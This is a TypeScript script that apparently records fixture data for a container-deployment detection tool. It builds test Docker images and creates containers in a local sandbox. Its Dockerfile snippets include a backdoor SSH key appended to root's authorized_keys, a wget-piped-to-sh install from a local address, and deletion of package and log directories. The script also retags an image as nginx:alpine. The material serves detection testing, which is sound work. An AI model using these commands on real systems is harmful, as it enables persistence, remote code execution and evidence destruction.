import { spawn } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { dockerInput } from '../../src/inputs/docker.ts'
import { createDelivered, deliver } from '../delivered.ts'
import { startDocker } from './engine.ts'

/**
 * Records what the input `docker` hands on of containers of images that were made in ways that documents test, as
 * root: `bin/tallyman-node test/real/record-images.ts`. Needs Debian's docker-registry besides. One file an act,
 * beside its document, each line a container that was made and never run.
 */
const FOLDER = join(import.meta.dirname, '../../strategies/t1610-unexpected-deployment.d')
const BASE = 'test/busybox:1'
const REGISTRY = '127.0.0.1:5000'

/** Dockerfiles of images, each on top of busybox. */
const BUILT: Readonly<Record<string, string>> = {
  'image-let-in': 'RUN mkdir -p /root/.ssh && echo "ssh-ed25519 AAAA x@y" >> /root/.ssh/authorized_keys',
  'image-fetched': 'RUN wget -qO- http://127.0.0.1:9/install.sh | sh || true',
  'image-without-list':
    'ARG TOKEN\nENV SECRET=hush MODE="a b"\nRUN mkdir -p /var/lib/dpkg && rm -rf /var/lib/dpkg /var/log',
  'image-ordinary':
    'ARG TOKEN\nENV SECRET=hush\nRUN mkdir -p /app && echo serving > /app/index.html\nUSER 1000\nVOLUME /data',
}

process.env['DOCKER_BUILDKIT'] = '0'
const engine = await startDocker()
const folder = mkdtempSync(join(tmpdir(), 'tallyman-images-'))
const registry = spawn('nsenter', [
  `--net=/run/netns/${engine.netns}`,
  'docker-registry',
  'serve',
  registryConfig(),
])
const delivered = createDelivered()
const line = (name: string): string | undefined =>
  [...delivered.streams.values()]
    .flatMap((bytes) => bytes.toString().split('\n'))
    .findLast((each) => each.includes(`"Name":"/${name}"`))
const names: string[] = []
const create = async (name: string, image: string): Promise<void> => {
  await engine.docker('create', '--name', name, image, 'true')
  names.push(name)
}
try {
  await engine.image(BASE)
  const reading = deliver(
    dockerInput({ name: 'recorded', socket: engine.socket, now: Date.now }),
    delivered,
    () => names.length === Object.keys(BUILT).length + 4 && names.every((name) => line(name) !== undefined),
    60_000,
  )
  for (const [name, steps] of Object.entries(BUILT)) {
    mkdirSync(join(folder, name))
    writeFileSync(join(folder, name, 'Dockerfile'), `FROM ${BASE}\n${steps}\n`)
    await engine.docker('build', '--build-arg', 'TOKEN=hush hush', '-t', `shop/${name}:1`, join(folder, name))
    await create(name, `shop/${name}:1`)
  }
  await sleep(1_000)
  await engine.docker('tag', 'shop/image-ordinary:1', `${REGISTRY}/shop/web:1`)
  await engine.docker('push', `${REGISTRY}/shop/web:1`)
  await create('image-of-registry', `${REGISTRY}/shop/web:1`)
  await engine.docker('tag', `${REGISTRY}/shop/web:1`, 'nginx:alpine')
  await create('image-renamed', 'nginx:alpine')
  await engine.docker('tag', 'shop/image-let-in:1', 'shop/app:stable')
  await create('image-before', 'shop/app:stable')
  await engine.docker('tag', 'shop/image-fetched:1', 'shop/app:stable')
  await create('image-after', 'shop/app:stable')
  await reading
  const files = names.filter((name) => !['image-before', 'image-after'].includes(name)).map((name) => [name])
  for (const [name = '', ...more] of [...files, ['image-tag-moved', 'image-before', 'image-after']]) {
    const lines = (more.length === 0 ? [name] : more).map((each) => line(each) ?? '')
    writeFileSync(join(FOLDER, `${name}.engine.jsonl`), lines.map((each) => `${each}\n`).join(''))
    process.stdout.write(`${name}: ${lines.length}\n`)
  }
} finally {
  registry.kill('SIGTERM')
  await engine.stop()
  rmSync(folder, { recursive: true, force: true })
}

function registryConfig(): string {
  const file = join(folder, 'registry.yml')
  writeFileSync(
    file,
    `version: 0.1\nstorage: { filesystem: { rootdirectory: ${join(folder, 'registry')} } }\nhttp: { addr: '${REGISTRY}' }\n`,
  )
  return file
}
